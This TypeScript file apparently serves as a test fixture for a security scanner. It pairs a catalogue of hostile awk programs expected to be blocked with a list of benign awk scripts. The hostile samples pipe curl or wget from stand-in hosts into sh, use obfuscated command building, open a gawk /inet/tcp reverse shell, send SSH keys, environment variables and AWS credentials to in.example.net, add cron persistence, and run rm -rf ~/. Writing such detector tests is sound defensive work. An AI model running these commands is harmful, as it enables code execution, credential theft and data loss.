import type { Attack, Expected } from "./javascript.table.ts";
import type { Files } from "./samples.ts";

/** awk programs of attackers, ours, in the order of the catalogue. */
export const AWK: readonly (Attack | readonly [id: string, expected: Expected, files: Files])[] = [
  ["AW-001", "block", 'BEGIN { system("curl -s https://get.example.net/x | sh") }\n'],
  ["AW-001b", "block", 'BEGIN { c = "curl -s https://get.example.net/x"; c | getline x; system(x) }\n'],
  ["AW-001c", "block", '{ print $1 | "sh" }\n'],
  ["AW-001d", "block", 'BEGIN { while (("curl -s https://get.example.net/x" | getline line) > 0) print line | "bash" }\n'],
  ["AW-001e", "block", 'BEGIN { print "curl -s https://get.example.net/x | sh" |& "sh" }\n'],
  ["AW-001f", "block", 'function go(c) { return system(c) }\nBEGIN { go("wget -qO- https://get.example.net/x | sh") }\n'],
  [
    "AW-001g",
    "block",
    'BEGIN { print "id" > "/tmp/x.sh"; system("curl -so /tmp/x.sh https://get.example.net/x"); close("/tmp/x.sh"); system("sh /tmp/x.sh") }\n',
  ],
  ["AW-002", "block", "{ system($0) }\n"],
  ["AW-002b", "block", '{ cmd = "rm -f " $2; system(cmd) }\n'],
  ["AW-002c", "block", 'BEGIN { c = sprintf("%c%c%c%c", 99, 117, 114, 108); system(c " https://get.example.net/x") }\n'],
  ["AW-002d", "block", 'BEGIN { s = "lruc"; for (i = 4; i > 0; i--) c = c substr(s, i, 1); system(c " https://get.example.net/x") }\n'],
  ["AW-002e", "block", 'BEGIN { n = split("sh:|:x", a, ":"); system(a[3] a[2] a[1]) }\n'],
  ["AW-002f", "block", 'BEGIN { c = "cXrl -s https://get.example.net/x"; sub(/X/, "u", c); system(c) }\n'],
  ["AW-002g", "block", 'BEGIN { system("\\143\\165\\162\\154 https://get.example.net/x -o y") }\n'],
  ["AW-002h", "block", 'BEGIN { a = "cu"; b = "rl"; system(a b " https://get.example.net/x -o y") }\n'],
  ["AW-002i", "block", 'BEGIN { f = "system"; @f("id") }\n'],
  ["AW-002j", "block", 'BEGIN { system(tolower("CURL -S HTTPS://GET.EXAMPLE.NET/X | SH")) }\n'],
  ["AW-002k", "block", 'BEGIN { getline c < "data.txt"; system(c) }\n'],
  ["AW-002l", "block", "BEGIN { system(job) }\n"],
  [
    "AW-002m",
    "block",
    { "scripts/a.sh": "awk -v c='true; curl -s https://get.example.net/x | sh' -f rules.awk data.csv\n", "rules.awk": 'BEGIN { system("true " c) }\n' },
  ],
  ["AW-003", "block", 'BEGIN { s = "/inet/tcp/0/10.0.0.1/4444"; while ((s |& getline c) > 0) while ((c |& getline) > 0) print $0 |& s }\n'],
  ["AW-003b", "block", 'BEGIN { p = "/inet"; print "x" |& (p "/tcp/0/in.example.net/80") }\n'],
  ["AW-003c", "block", 'BEGIN { getline x < "/inet/udp/0/10.0.0.1/53" }\n'],
  ["AW-004", "block", 'BEGIN { while ((getline l < (ENVIRON["HOME"] "/.ssh/id_rsa")) > 0) k = k l; print k | "curl -s -d @- https://in.example.net/" }\n'],
  ["AW-004b", "block", 'BEGIN { for (k in ENVIRON) print k "=" ENVIRON[k] | "curl -s -d @- https://in.example.net/" }\n'],
  ["AW-004c", "block", 'BEGIN { "cat ~/.aws/credentials" | getline k; system("curl -d " k " https://in.example.net/") }\n'],
  ["AW-004d", "block", 'BEGIN { ARGV[1] = "/root/.ssh/id_rsa"; ARGC = 2 }\n{ print | "curl -s -d @- https://in.example.net/" }\n'],
  ["AW-005", "block", 'BEGIN { print "* * * * * /tmp/x" | "crontab -" }\n'],
  ["AW-005b", "block", 'BEGIN { f = "/root/.bashrc"; print "alias ls=evil" >> f }\n'],
  ["AW-005c", "block", 'BEGIN { system("rm -rf ~/") }\n'],
  ["AW-006", "closed", '@load "filefuncs"\nBEGIN { print 1 }\n'],
  ["AW-006b", "closed", '@include "/tmp/lib.awk"\nBEGIN { print 1 }\n'],
  ["AW-006c", "closed", 'BEGIN { print "never ends }\n'],
  ["AW-006d", "closed", "BEGIN { if (x { print } }\n"],
  ["AW-006e", "block", 'BEGIN { SYMTAB["c"] = "id"; system("true") }\n'],
  ["AW-006f", "block", { "scripts/a.sh": "awk -f lib/rules.txt data.csv\n", "lib/rules.txt": '{ system("curl -s https://get.example.net/x | sh") }\n' }],
  ["AW-006g", "block", { "scripts/run": '#!/usr/bin/awk -f\nBEGIN { system("curl -s https://get.example.net/x | sh") }\n' }],
];

/** awk programs that people keep: nothing here blocks. */
export const AWK_CLEAN: readonly (readonly [what: string, code: string | Files])[] = [
  [
    "requests counted by status",
    '# combined log format\n{ status[$9]++; bytes[$9] += $10 }\nEND {\n  for (s in status) printf "%s %d %.1f\\n", s, status[s], bytes[s] / 1024\n}\n',
  ],
  [
    "columns of a table, sorted",
    'BEGIN { FS = ","; OFS = "\\t" }\nNR == 1 { for (i = 1; i <= NF; i++) col[$i] = i; next }\n{ print $col["name"], $col["total"] | "sort -k2 -rn" }\nEND { close("sort -k2 -rn") }\n',
  ],
  [
    "a percentile",
    'function pct(p,   i) { i = int(p * n + 0.5); return v[i < 1 ? 1 : i] }\n{ v[++n] = $NF }\nEND { n = asort(v); print "p50", pct(.5); print "p99", pct(.99) }\n',
  ],
  [
    "patterns and divisions",
    "/^#/ || !NF { next }\n$3 ~ /^[0-9]+(\\.[0-9]+)?$/ && $3 / 2 > 10 { sum += $3 / 2; n++ }\n/begin/,/end/ { inside++ }\nEND { if (n) print sum / n; else print 0 }\n",
  ],
  [
    "what goes wrong, said elsewhere",
    'NF < 3 { print FILENAME ":" FNR ": too few columns" > "/dev/stderr"; bad = 1; next }\n{ out = out $1 "," }\nEND { print out; exit bad }\n',
  ],
  ["a file for each part", '/^## / { n++; file = sprintf("part-%02d.md", n); next }\nn { print > file }\n'],
  [
    "a list of words that is given",
    'BEGIN { while ((getline w < words) > 0) known[tolower(w)] = 1 }\n{ for (i = 1; i <= NF; i++) if (!(tolower($i) in known)) print FNR ": " $i }\n',
  ],
  ["the date once", 'BEGIN { "date +%F" | getline today; close("date +%F") }\n{ gsub(/@DATE@/, today); print }\n'],
  ["a heading made wider", 'function rep(c, n,   s) { while (n-- > 0) s = s c; return s }\n{ w = length($0); print $0; print rep("=", w) }\n'],
  [
    "keys of a settings file",
    '#!/usr/bin/awk -f\nBEGIN { FS = "[ \\t]*=[ \\t]*" }\n/^\\[/ { section = substr($0, 2, length($0) - 2); next }\n$1 == key && section == wanted { print $2; found = 1; exit }\nEND { if (!found) exit 1 }\n',
  ],
  ["joined lines", '{ if (sub(/\\\\$/, "")) { held = held $0; next } print held $0; held = "" }\nEND { if (held != "") print held }\n'],
  [
    "nested tables and a switch",
    '{ switch ($1) {\ncase "a":\n  a[$2][$3]++\n  break\ncase /^b/:\n  b++\n  break\ndefault:\n  c++\n}\n}\nEND { for (x in a) for (y in a[x]) print x, y, a[x][y]; print b + 0, c + 0 }\n',
  ],
];
